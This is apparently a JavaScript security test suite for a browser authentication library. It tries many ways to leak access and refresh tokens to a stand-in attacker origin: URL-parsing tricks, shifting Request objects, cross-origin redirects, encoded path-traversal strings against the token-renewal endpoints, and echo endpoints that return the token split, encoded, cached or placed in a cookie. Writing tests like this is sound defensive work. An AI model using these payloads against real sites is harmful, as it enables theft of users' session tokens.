// The token made to travel: to another origin, along a redirect, or there and back.

/** What these answer, as far as they can be read. */
async function read({ loot, outcome }, ...calls) {
  for (const call of calls) {
    const response = await outcome((async () => call())());
    loot(response, response instanceof Response ? await outcome(response.text()) : null);
  }
}
const ask = (...args) => () => window.auth.fetch(...args);
const echoed = (as) => ask(`/api/reflect?as=${as}`);
const STATUSES = [301, 302, 303, 307, 308];
const NARROW = { attach: { to: ["/api/something"] } };

export default [
  {
    name: "fetch of another origin",
    after: "token no no no",
    async run(kit) {
      const { attacker } = kit;
      const url = new URL(attacker);
      const { host } = location;
      const addresses = [
        attacker,
        url,
        new Request(attacker, { method: "POST", body: "x" }),
        `http://${host}@${url.host}${url.pathname}`,
        `http://${url.host}\\@${host}`,
        `//${url.host}${url.pathname}`,
        `\\\\${url.host}${url.pathname}`,
        `ht\ntp://${url.host}${url.pathname}#${location.origin}`,
      ];
      await read(kit, ...addresses.map((address) => ask(address, { headers: { "x-mine": "1" } })));
    },
  },
  {
    name: "an address that changes while it is looked at",
    after: "token no no no",
    async run(kit) {
      const { attacker } = kit;
      const changing = () => {
        let reads = 0;
        return () => (reads++ < 2 ? "/api/something" : attacker);
      };
      class Shifty extends Request {
        #turn = changing();
        get url() {
          return this.#turn();
        }
      }
      const target = new URL("/api/something", location.href);
      Object.defineProperty(target, "href", { get: changing() });
      const [toString, url] = [changing(), changing()];
      const request = new Request("/api/something");
      Object.defineProperty(request, "url", { get: () => attacker });
      await read(kit, ask({ toString }), ask(new Shifty(attacker)), ask(target), ask(request));
      await read(kit, ask(new Proxy(new Request(attacker), { get: (_, name) => (name === "url" ? url() : undefined) })));
    },
  },
  {
    name: "init with getters and a Proxy of Headers",
    after: "token no no no",
    async run(kit) {
      const { loot } = kit;
      const watch = (target) =>
        new Proxy(target, {
          get: (target, name) => (loot(name), Reflect.get(target, name)),
          set: (target, name, value) => (loot(name, value), Reflect.set(target, name, value)),
          defineProperty: (target, name, value) => (loot(name, value), Reflect.defineProperty(target, name, value)),
        });
      const init = watch({ headers: watch({ "x-mine": "1" }), method: "GET" });
      const headers = new Headers({ "x-mine": "1" });
      headers.set = headers.append = loot;
      await read(kit, ask("/api/something", init), ask("/api/something", { headers }));
      loot(init, headers);
      // The wrapper of the naive one shows it to whatever fetch is there.
      await read(kit, ask(new Request("/api/something", { headers })), ask("/open/reflect?as=pieces"));
    },
  },
  {
    name: "install(), then fetch and XMLHttpRequest to another origin",
    after: "token no no no",
    async run(kit) {
      const { attacker, outcome } = kit;
      await outcome((async () => window.auth.install())());
      await outcome((async () => window.auth.install({ xhr: true }))());
      await read(kit, () => fetch(attacker));
      const request = new XMLHttpRequest();
      request.open("GET", attacker);
      request.send();
      await new Promise((resolve) => (request.onloadend = resolve));
    },
  },
  {
    name: "auth.token()",
    after: "token token no no",
    run: async ({ loot, outcome }) => loot(await outcome(window.auth.token())),
  },
  {
    name: "auth.url()",
    after: "token token no no",
    pageOptions: { attach: { query: "access_token" } },
    async run({ loot, outcome, attacker }) {
      for (const target of [attacker, "/api/something", "ws:/api/something"]) loot(await outcome(window.auth.url(target)));
    },
  },
  {
    name: "auth.session, its user and its claims",
    after: "token no no no",
    run: ({ ransack }) => ransack([window.auth.session, window.auth.answer, JSON.stringify(window.auth)]),
  },
  {
    name: "a redirect to another origin, with a header of its own",
    after: "token no no no",
    async run(kit) {
      const to = encodeURIComponent(`${kit.attacker}/landed`);
      for (const method of ["GET", "HEAD", "POST"]) {
        await read(kit, ...STATUSES.map((status) => ask(`/api/hop?status=${status}&to=${to}`, { method })));
      }
    },
  },
  {
    name: "the same redirect, asked to be followed",
    after: "token no no no",
    async run(kit) {
      const to = encodeURIComponent(`${kit.attacker}/landed`);
      const inits = [{ redirect: "follow" }, { redirect: "manual" }, { mode: "cors", credentials: "include" }, { keepalive: true }];
      await read(kit, ...inits.map((init) => ask(`/api/hop?status=307&to=${to}`, init)));
      await read(kit, ask(new Request(`/api/hop?status=307&to=${to}`, { redirect: "follow", method: "PUT", body: "x" })));
    },
  },
  {
    name: "a redirect that only who shows the token gets",
    after: "token no no no",
    async run(kit) {
      const to = encodeURIComponent(`${kit.attacker}/landed`);
      await read(kit, ...STATUSES.map((status) => ask(`/api/hop?shown&status=${status}&to=${to}`)));
    },
  },
  {
    name: "a redirect to a place that is not listed, with authorization",
    after: "token token no no",
    options: { attach: { to: ["/api"], header: "authorization" } },
    async run(kit) {
      const to = encodeURIComponent("/open/reflect?as=pieces");
      await read(kit, ask(`/api/hop?status=307&to=${to}`), ask(`/api/hop?status=307&to=${to}`, { method: "POST", body: "x" }));
    },
  },
  {
    name: "the token endpoints, which sell a token for a token",
    after: "token token no no",
    options: { refresh: { url: "/api/renew" } },
    async run(kit) {
      const paths = ["/api/renew", "/api/renew/", "/API/Renew", "//api//renew", "/api/%72enew", "/api/x/../renew", "/api/renew?x#y"];
      const hidden = ["/api/%2e/renew", "/api//renew", "/api/renew;x", "/api/x%2f..%2frenew", "/api\\renew", "/api/renew%2f"];
      for (const method of ["GET", "POST"]) {
        await read(kit, ...[...paths, ...hidden].map((path) => ask(location.origin + path.replace(/^\/\//, "/"), { method })));
      }
    },
  },
  {
    name: "a redirect to such an endpoint",
    after: "token token no no",
    options: { refresh: { url: "/api/renew" } },
    async run(kit) {
      const to = (path) => `/api/hop?status=307&to=${encodeURIComponent(path)}`;
      await read(kit, ask(to("/api/renew")), ask(to("/API/renew/")), ask(to("/api/renew"), { method: "POST" }));
    },
  },
  {
    name: "an answer whose user repeats both tokens (RealWorld API)",
    before: "token token no no",
    options: {
      tokenUrl: "/api/users/login",
      refresh: { url: "/api/users/renew" },
      response: { accessToken: "user.token", refreshToken: "user.refresh_token", user: "user" },
    },
    async run({ ransack, signedIn, worked }) {
      await signedIn;
      ransack([window.auth.session, window.auth.answer]);
      await worked;
      ransack(window.auth.session);
    },
  },
  {
    name: "a refusal that quotes the refresh token",
    before: "token no no no",
    options: { refresh: { url: "/api/quote" } },
    async run({ ransack, outcome, signedIn }) {
      await signedIn;
      ransack([await outcome(window.auth.refresh())]);
    },
  },
  {
    name: "echo: the token in a text, in JSON, in an error, after 200 KB, in bytes",
    after: "token token no no",
    run: (kit) => read(kit, ...["plain", "json", "error", "padded", "binary"].map(echoed)),
  },
  {
    name: "echo: in two chunks, letter by letter, as an event",
    after: "token token no no",
    run: (kit) => read(kit, ...["chunks", "letters", "events"].map(echoed)),
  },
  {
    name: "echo: in a response header, the status text, the address it leads to",
    after: "token token no no",
    run: (kit) => read(kit, ...["header", "reason", "address"].map(echoed)),
  },
  {
    name: "echo: only read to its middle, then given up",
    after: "token token no no",
    async run({ loot, outcome }) {
      for (const as of ["padded", "chunks", "letters", "plain"]) {
        const stop = new AbortController();
        const response = await outcome(window.auth.fetch(`/api/reflect?as=${as}`, { signal: stop.signal }));
        const reader = response.body?.getReader();
        for (let i = 0; reader && i < 2; i++) loot(await outcome(reader.read()));
        stop.abort();
        loot(await outcome((async () => reader?.read())()));
      }
    },
  },
  {
    name: "echo: so slow that the token has been renewed five times when it comes",
    after: "token token no no",
    async run(kit) {
      const key = Math.random();
      const slow = read(kit, ask(`/api/slow?as=plain&key=${key}`));
      for (let i = 0; i < 5; i++) await kit.outcome(window.auth.refresh());
      await fetch(`/api/go?key=${key}`);
      await slow;
    },
  },
  {
    name: "echo: in pieces, reversed, encoded, escaped, or the signature alone",
    after: "token token named:1 named:1",
    run: (kit) => read(kit, ...["pieces", "reversed", "base64", "codes", "escaped", "signature"].map(echoed)),
  },
  {
    name: "echo: by ranges, a half at a time",
    after: "token token named:1 named:1",
    run: (kit) => {
      const ranges = ["0-99", "100-199", "200-299", "300-999"];
      return read(kit, ...ranges.map((range) => ask("/api/reflect?as=range", { headers: { range: `bytes=${range}` } })));
    },
  },
  {
    name: "echo: in a cookie that scripts can read",
    after: "token token named:1 named:1",
    async run(kit) {
      await read(kit, echoed("cookie"));
      kit.loot(document.cookie);
    },
  },
  {
    name: "echo: found in the HTTP cache",
    after: "token token named:1 named:1",
    async run(kit) {
      // Not every answer that was given up halfway is kept.
      for (let i = 0; i < 10; i++) {
        const address = `/api/reflect?as=cached&${i}`;
        await read(kit, ask(address), () => fetch(address, { cache: "force-cache" }));
      }
    },
  },
  {
    name: "an endpoint that hands out another token",
    after: "token token named:1 named:1",
    run: (kit) => read(kit, ask("/api/user")),
  },
  {
    name: "all of these, where attach.to names the paths that are needed",
    after: "token no no no",
    options: NARROW,
    async run(kit) {
      const ways = ["pieces", "reversed", "base64", "codes", "signature", "cookie", "cached"];
      await read(kit, ...ways.map(echoed), ask("/api/user"), () => fetch("/api/reflect?as=cached", { cache: "force-cache" }));
      const dots = ["/..%2freflect", "/%2e%2e%2freflect", "/..\\reflect", "/%252e%252e/reflect", "/..;/reflect"];
      const hidden = [...dots, "/x/..%2f..%2freflect"];
      await read(kit, ...hidden.map((path) => ask(`/api/something${path}?as=pieces`)), ask("/api/somethings/../reflect?as=pieces"));
      kit.loot(document.cookie);
    },
  },
];
